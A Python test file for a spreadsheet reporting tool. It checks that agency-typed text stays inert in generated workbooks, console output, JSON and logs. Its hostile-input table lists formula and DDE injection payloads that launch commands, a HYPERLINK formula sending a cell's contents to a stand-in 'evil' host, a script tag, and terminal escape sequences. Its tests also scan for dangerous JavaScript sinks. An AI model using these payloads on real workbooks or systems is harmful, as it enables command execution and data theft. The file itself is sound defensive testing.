"""Nothing that an agency typed comes alive in anything we make: no formula, link, name, code or order to a screen.

Each way out gets the hostile texts and plain ones of the same number. Both files must hold the same formulas, links,
names and relationships, and the hostile texts whole.
"""

import ast
import dataclasses
import html
import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from blank_copies import BlankTrial
from books import as_typed, new_book
from conftest import Run
from hypothesis import given, settings
from hypothesis import strategies as st
from returned_copies import AGENCY, KEY, Trial, annex_tasks, codes, few_tasks, task_trial, values

from kttt_xl import builder, console, failure_log, inert, intake, plan_book_write, report, tables, udfs, uploads
from kttt_xl.annex import read_annex
from kttt_xl.annex_book import proposal_book, propose
from kttt_xl.book_tables import write_table
from kttt_xl.cells import read_number
from kttt_xl.consolidation import Consolidated, consolidate
from kttt_xl.layout import task_copy
from kttt_xl.messages import finding
from kttt_xl.model import Plan
from kttt_xl.period import Period, parse_period
from kttt_xl.reader import CopyReading, read_copy

ROOT = Path(__file__).parent.parent
AS_OF = parse_period("2024").end

# What each is: its text, and the text that is kept of it where that differs ("" for none).
HOSTILE: dict[str, tuple[str, str | None]] = {
    "a formula": ("=1+1", None),
    "a link": ('=HYPERLINK("http://evil/?"&A1,"x")', None),
    "DDE": ("=cmd|' /C calc'!A0", None),
    "DDE after a plus": ("+cmd|' /C calc'!A0", None),
    "a minus": ("-2+3+cmd|' /C calc'!A0", None),
    "a function of Lotus": ("@SUM(1+1)*cmd|' /C calc'!A0", None),
    "an array formula": ("{=1+1}", None),
    "behind a tab": ("x\t=1+1", None),
    "behind a line end": ("x\n=1+1", None),
    "in full width": ("＝1+1 ＋ －", None),
    "behind a zero-width space": ("x\u200b=1+1", None),
    "an address": ("http://evil.example/a", None),
    "a file": ("file:///c:/windows/x.exe", None),
    "mail": ("mailto:a@example.org", None),
    "a place inside": ("internal:'Lỗi'!A1", None),
    "a place outside": ("external:c:\\x.xlsx", None),
    "footer codes": ('&P &N &"Wingdings" &A &F', None),
    "a sheet's name": ("[]:*?/\\'" * 60, None),
    "a cell's name": ("A1", None),
    "a reserved name": ("_xlnm.Print_Area", None),
    "a number": ("1234", None),
    "an error": ("#N/A", None),
    "markup of a terminal": ("[red]đỏ[/red] [link=http://evil]x[/link]", None),
    "HTML": ("<script>alert(1)</script></td></table>&amp;]]><!--", None),
    "a template": ("{{7*7}} {% raw %} ${x} %s %n", None),
    "an escape of Excel": ("_x0041_ _x000D_", None),
    "orders to a terminal": ("a\x1b[2J\x1b]0;x\x07\x9b31mb", "a[2J]0;x31mb"),
    "NUL and controls": ("a\x00b\x01\x08c\x7f", "abc"),
    "a turn of direction": ("abc\u202egnp.exe\u2066x\u2069", "abcgnp.exex"),
    "half a character": ("a\ud800b", "a\ufffdb"),
    "no letters": ("a\ufffe\uffffb", "ab"),
    "a carriage return": ("một\r\nhai\rba", "một\nhai\nba"),
}
TEXTS = [text for text, _ in HOSTILE.values()]
KEPT = [text if kept is None else kept for text, kept in HOSTILE.values()]
PLAIN = [f"chữ {at}" for at in range(len(TEXTS))]
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
# Leads that only a text which is kept untrimmed can have: a plan's, not a cell's.
LEADS = ["\t=1+1", "\n=1+1", "\ufeff=1+1", "\u200b=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠x", "=1", "+1", "-1", "@x"]


def alive(content: bytes) -> dict[str, set[str]]:
    """Return everything in a workbook that does something, numbers made alike: rows differ from file to file."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = {name: html.unescape(package.read(name).decode()) for name in package.namelist()}
    found: dict[str, set[str]] = {
        "parts": set(parts),
        "targets": set(re.findall(r'Type="[^"]*" Target="[^"]*"(?: TargetMode="[^"]*")?', "".join(parts.values()))),
    }
    sheets = "".join(part for name, part in parts.items() if name.startswith("xl/") and "sharedStrings" not in name)
    for tag in ("f", "formula", "formula1", "formula2", "hyperlink", "oddHeader", "oddFooter", "definedName", "sheet"):
        elements = re.findall(rf"<{tag}(?: [^<>]*)?(?:/>|>.*?</{tag}>)", sheets, re.DOTALL)
        found[tag] = {re.sub("[0-9]+", "0", element) for element in elements}
    return found


def texts_of(content: bytes) -> set[str]:
    """Return every text of a workbook, as a program other than ours reads it."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "e"]
    return {cell.value for cell in cells if cell.data_type == "s"}


def unquoted(content: bytes) -> list[str]:
    """Return the texts that begin like a formula and have no quote prefix."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]
    return [cell.value for cell in cells if inert.starts_formula(cell.value) and not cell.quotePrefix]


# --- from returned copies to the consolidated workbook


class Returns:
    """Copies with texts typed wherever an agency can type one, and what is made of them."""

    def __init__(self, plan: Plan, period: Period, folder: Path, texts: list[str]) -> None:
        self.texts = texts
        self.plan, self.period = plan, period
        trial = task_trial(plan, period, folder)
        rows = [row.key for row in trial.copy.keyed]
        fields = ("issued", "result", "difficulty", "proposal", "state", "percent", "done_on")
        typed = {
            trial.at(rows[at], field): text
            for at, text in enumerate(texts)
            for field in (fields[:4] if at % 2 else fields)
        }
        # Below the form, and on a sheet of their own: refused, quoted in findings.
        typed |= {f"P{200 + at}": text for at, text in enumerate(texts)}
        (folder / "a.xlsx").write_bytes(trial.filled(typed))
        name = re.sub(r"[\x00/]", "", texts[1])
        self.reading = read_copy(folder / "a.xlsx", f"{name}.xlsx", lambda _plan: KEY)
        nothing = [CopyReading(text, "0" * 64, (finding("damaged-file", file=text, found=text),)) for text in texts]
        self.copies = (*intake.judge([self.reading, *nothing], plan, period), *map(intake.skipped, texts))

    @property
    def result(self) -> Consolidated:
        return consolidate(self.plan, self.period, AS_OF, self.copies)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("tro-ve")


@pytest.fixture(scope="module")
def hostile(gia_lai: Plan, year: Period, folder: Path) -> Returns:
    return Returns(gia_lai, year, folder, TEXTS)


@pytest.fixture(scope="module")
def book(hostile: Returns) -> bytes:
    return report.write_report(hostile.result)


def test_the_reader_keeps_texts_whole_or_says_what_it_removed(hostile: Returns) -> None:
    taken = [value for (_, field), value in values(hostile.reading).items() if field == "result"]
    assert taken == KEPT
    results = [found for found in hostile.reading.findings if found.header == "Kết quả thực hiện"]
    said = {found.cell for found in results if found.code == "cleaned-text"}
    cells = {entry.cell for entry in hostile.reading.submission.entries if entry.field == "result"}  # type: ignore[union-attr]
    changed = [text.replace("\r\n", "\n").replace("\r", "\n") != kept for text, kept in zip(TEXTS, KEPT, strict=True)]
    assert len(said & cells) == sum(changed) == 5


@pytest.mark.parametrize(
    ("typed", "value", "notes"),
    [
        ("5\u200b", Decimal(5), [("number-as-text", "5")]),
        ("\u00a05\ufeff", Decimal(5), [("number-as-text", "5")]),
        ("12\u202e34", None, [("bad-number", "1234 (có ký tự đổi chiều chữ)")]),  # it shows 1243
        ("\u202e34", None, [("bad-number", "34 (có ký tự đổi chiều chữ)")]),
    ],
)
def test_numbers_with_what_nobody_sees(typed: str, value: Decimal | None, notes: list[tuple[str, str]]) -> None:
    reading = read_number(typed, "count")
    assert (reading.value, [(note.code, note.found) for note in reading.notes]) == (value, notes)


@pytest.mark.parametrize("key", ["1", "1\u200b", "\u00a01 ", "\ufeff1", "1\u00ad"])
def test_codes_and_list_items_with_what_nobody_sees(key: str, gia_lai: Plan, year: Period, tmp_path: Path) -> None:
    reading = Trial(few_tasks(gia_lai, year), tmp_path).read({"A9": key, "L9": "Hoàn\u00a0thành\u200b", "P9": "xong"})
    assert values(reading) == {("1", "state"): "Hoàn thành", ("1", "result"): "xong"}
    assert codes(reading) == [("list-spelling", "L9")]


def test_no_text_comes_alive_in_the_consolidated_workbook(
    hostile: Returns, book: bytes, gia_lai: Plan, year: Period, tmp_path: Path
) -> None:
    plain = Returns(gia_lai, year, tmp_path, PLAIN)
    assert alive(book) == alive(report.write_report(plain.result))
    assert unquoted(book) == []
    assert set(KEPT) <= texts_of(book)
    assert not [text for text in alive(book)["targets"] if "External" in text or "evil" in text]


def test_reopened_in_libreoffice_they_are_texts(book: bytes, office: Run, tmp_path: Path) -> None:
    file = tmp_path / "tong-hop.xlsx"
    file.write_bytes(book)
    sheet = openpyxl.load_workbook(file)["Nhiệm vụ"]
    found = next(cell for row in sheet.iter_rows() for cell in row if cell.value == KEPT[0])
    area = f"{found.column_letter}{found.row}:{found.column_letter}{sheet.max_row}"
    (told,) = office([{"open": str(file), "steps": [["values", "Nhiệm vụ", area]]}])
    assert [text for text in KEPT if text not in told] == []


# --- what we send out, and plan workbooks


def hostile_plan(plan: Plan, texts: list[str]) -> Plan:
    """Return the plan with these texts as titles, products and sections of its tasks, one as its own title."""
    tasks = [
        replace(task, title=text, product=text, section=text) for task, text in zip(plan.tasks, texts, strict=False)
    ]
    return replace(plan, tasks=(*tasks, *plan.tasks[len(tasks) :]), title=texts[1], coordinator=texts[0])


WRITABLE = [text for text in TEXTS if not OBEYED.search(text) and "\ufffe" not in text]  # what a plan can hold
PLANS: dict[str, Callable[[Plan, Period, Path], bytes]] = {
    "a plan workbook": lambda plan, _period, _folder: plan_book_write.write_plan(plan),
    "a blank copy": lambda plan, period, folder: (
        BlankTrial(plan, period, "tasks", folder, agencies=(AGENCY, "Sở Tài chính")).content
    ),
    "an addressed copy": lambda plan, period, folder: task_trial(plan, period, folder).content,
    "an empty consolidated workbook": lambda plan, period, _folder: report.write_report(
        consolidate(plan, period, AS_OF, ())
    ),
}


@pytest.mark.parametrize("way", PLANS)
def test_no_text_of_a_plan_comes_alive(way: str, gia_lai: Plan, year: Period, tmp_path: Path) -> None:
    texts = [*WRITABLE, *LEADS][:36]
    hostile, plain = hostile_plan(gia_lai, texts), hostile_plan(gia_lai, [f"chữ {at}" for at in range(len(texts))])
    content = PLANS[way](hostile, year, tmp_path)
    assert alive(content) == alive(PLANS[way](plain, year, tmp_path))
    assert unquoted(content) == []
    assert set(texts) <= texts_of(content)


def test_what_was_reported_before_is_shown_as_text(gia_lai: Plan, year: Period) -> None:
    assigned = annex_tasks(gia_lai, year)

    def made(texts: list[str]) -> bytes:
        previous = {(given.task.id, AGENCY): text for given, text in zip(assigned, texts, strict=False)}
        return builder.build_copy(task_copy(gia_lai, year, AGENCY, assigned, previous), KEY)

    texts = [*WRITABLE, *LEADS][: len(assigned)]
    content = made(texts)
    assert alive(content) == alive(made([f"chữ {at}" for at in range(len(texts))]))
    assert unquoted(content) == []
    assert set(texts) <= texts_of(content)


def test_an_annex_proposes_texts(tmp_path: Path) -> None:
    annex = tmp_path / "phu-luc.txt"
    heading = "TT\tNhiệm vụ, đề án\tCơ quan chủ trì\tCơ quan phối hợp\tCấp trình\tSản phẩm\tThời gian\n"

    def made(texts: list[str]) -> bytes:
        rows = [f"{at}\t{text}\tSở {text}\t{text}\tUBND tỉnh\t{text}\t{text}\n" for at, text in enumerate(texts, 1)]
        annex.write_text(heading + "".join(rows) + "".join(f"{text}\n" for text in texts), encoding="utf-8")
        return proposal_book(propose(read_annex(annex), texts[0]))

    flat = [text for text in WRITABLE if "\n" not in text and "\t" not in text]
    content = made(flat)
    assert alive(content) == alive(made([f"chữ {at}" for at in range(len(flat))]))
    assert unquoted(content) == []
    assert "=1+1" in texts_of(content)


@pytest.mark.parametrize("text", [*TEXTS, *LEADS])
def test_names_of_files_are_harmless(text: str, gia_lai: Plan, year: Period) -> None:
    name = builder.file_name(replace(gia_lai, id=text), year, "tasks", text)
    assert re.fullmatch(r"[a-z0-9-]*_2024_nhiem-vu_[a-z0-9-]{1,60}\.xlsx", name)
    safe = uploads.safe_name(f"{text}.xlsx")
    assert (Path(safe).name, safe.strip(". ") != "", len(safe.encode()) <= 255) == (safe, True, True)
    assert not re.search(r'[\x00-\x1f<>:"|?*\\/]', safe)


# --- inside Excel


@pytest.mark.parametrize("text", [*TEXTS, *LEADS])
def test_tables_written_into_an_open_workbook_hold_texts(text: str) -> None:
    opened = new_book()
    write_table(opened.sheets[0], text, [(text, text)], {"Cột": 10}, [(text,)], text)
    written = [action["values"] for action in opened.json()["actions"] if action["func"] == "setValues"]
    cells = {as_typed(cell) for rows in written for row in rows for cell in row}
    assert cells - {None, "Cột"} == {text.encode("utf-8", "replace").decode()}


FUNCTIONS: dict[str, Callable[[str], object]] = {
    **{name: getattr(udfs, name) for name in ("KTTT_KY", "KTTT_TEN_KY", "KTTT_SO", "KTTT_CO_QUAN", "KTTT_HAN")},
    "KTTT_TONG_HOP": lambda text: udfs.KTTT_TONG_HOP([["Đơn vị", text], [text, 1], [f"{text}x", 2]], 1, 2),
    "KTTT_TONG_HOP of words": lambda text: udfs.KTTT_TONG_HOP([["Đơn vị", "Số"], ["a", f"x{text}"]], 1, text),
    "KTTT_TINH_TRANG": lambda text: udfs.KTTT_TINH_TRANG(text, text),
    "KTTT_TIEN_DO": lambda text: udfs.KTTT_TIEN_DO(5, text, text),
    "KTTT_SO_LIEU": lambda text: udfs.KTTT_SO_LIEU(text, text, "2024"),
}


@pytest.mark.parametrize("name", FUNCTIONS)
def test_functions_give_no_formula_and_no_error(name: str) -> None:
    for text in [*TEXTS, *LEADS, "#REF!"]:
        try:
            answer = FUNCTIONS[name](text)
        except UnicodeEncodeError:
            assert text == "a\ud800b"
            raise
        cells = [cell for row in answer for cell in row] if isinstance(answer, list) else [answer]
        told = [cell for cell in cells if isinstance(cell, str)]
        assert not [cell for cell in told if inert.starts_formula(cell) or cell.startswith("#")], text


# --- screens, logs, JSON


def test_the_screen_gets_no_orders(hostile: Returns, capsys: pytest.CaptureFixture[str]) -> None:
    console.show_findings(hostile.result.findings)
    for text in TEXTS:
        console.say(text)
        console.say(text, err=True)
    shown = capsys.readouterr()
    assert not OBEYED.search(shown.out + shown.err)
    assert "[red]đỏ[/red]" in shown.out.replace("\n", "")
    assert "a\\x1b[2J" in shown.err


def test_json_is_whole_and_gives_the_screen_no_orders(hostile: Returns, capsys: pytest.CaptureFixture[str]) -> None:
    documents = [report.summary(hostile.result), {text: text for text in TEXTS}]
    for document in documents:
        console.echo_json(document)
        printed = capsys.readouterr().out
        assert not OBEYED.search(printed)
        assert printed.encode()
        assert json.loads(printed) == json.loads(json.dumps(document, default=str))


@given(st.text(st.characters(), max_size=30))
@settings(deadline=None)
def test_visible_texts(text: str) -> None:
    shown = inert.visible(text)
    assert not OBEYED.search(shown)
    assert shown.encode("utf-8") is not None
    assert (shown == text) is not bool(re.search(f"{OBEYED.pattern}|[\ufffe\uffff]", text))
    assert json.loads(inert.visible_json(json.dumps(text, ensure_ascii=False))) == text


def test_the_log_gets_no_orders(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(failure_log, "log_file", lambda: tmp_path / "loi.log")
    failure_log.log_failure(ValueError("\x1b[2J\u202e\x9b" + "".join(TEXTS)))
    assert not OBEYED.search((tmp_path / "loi.log").read_text(encoding="utf-8"))


# xlsxwriter's write() and its kin guess what a text is; links, notes, rich texts and headers would need texts of ours.
GUESSING = {
    *("write_row", "write_column", "write_rich_string", "write_url", "write_comment", "write_array_formula"),
    *("write_dynamic_array_formula", "insert_textbox", "insert_image", "set_header", "set_footer", "add_table"),
    *("to_csv", "to_excel", "to_html", "writerow", "writerows", "echo", "secho"),
}


def test_only_inert_ways_of_writing_are_used() -> None:
    used: dict[str, set[str]] = {}
    for path in (ROOT / "kttt_xl").glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = node.func.attr if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) else ""
            if name in GUESSING or (name == "write" and len(node.args) > 2):  # type: ignore[attr-defined]
                used.setdefault(name, set()).add(path.stem)
    # A link goes to a row of a sheet of ours (paper.Link); the footer is page numbers.
    assert used == {"write_url": {"paper"}, "set_footer": {"cover"}, "echo": {"console"}}


def test_the_task_pane_puts_texts_in_as_texts() -> None:
    for script in (ROOT / "server" / "static").glob("*.js"):
        code = script.read_text(encoding="utf-8")
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function|srcdoc", code)
        assert set(re.findall(r"\.href = (\w+)", code)) <= {"URL"}  # a blob of our own
        assert set(re.findall(r"\.src = ([\w.]+)", code)) <= {"document.currentScript.dataset.src"}


def test_formulas_of_ours_hold_no_agency(hostile: Returns) -> None:
    """What a report's rows compute is made of headings and words of ours alone."""
    formulas = {
        cell.formula
        for row in tables.task_rows(hostile.result)
        for cell in row
        if dataclasses.is_dataclass(cell) and hasattr(cell, "formula")
    }
    assert not [formula for formula in formulas if any(text in formula for text in TEXTS)]
